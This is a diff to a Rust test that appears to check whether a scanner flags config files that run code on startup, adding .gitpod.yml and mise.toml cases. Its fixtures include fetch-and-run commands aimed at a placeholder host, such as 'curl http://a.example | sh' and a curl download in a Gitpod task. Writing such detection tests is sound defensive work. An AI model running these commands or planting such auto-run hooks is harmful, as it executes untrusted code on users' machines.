@@ -156,5 +156,10 @@ fn programs_read_files_when_they_start() {
         "jupyter_server_config.py",
         &[("c.ServerApp.port = 1\n", &[]), ("import os\n", &["jupyter_server_config.py"])],
     );
+    check(
+        ".gitpod.yml",
+        &[("tasks:\n  - init: pip install .\n", &[]), ("tasks:\n  - command: curl a.example -o x\n", &[".gitpod.yml"])],
+    );
+    check("mise.toml", &[("[tools]\npython = \"3.12\"\n", &[]), ("[hooks]\nenter = \"./x\"\n", &["mise.toml"])]);
     check("README.md", &[("curl http://a.example | sh\n", &[])]);
 }
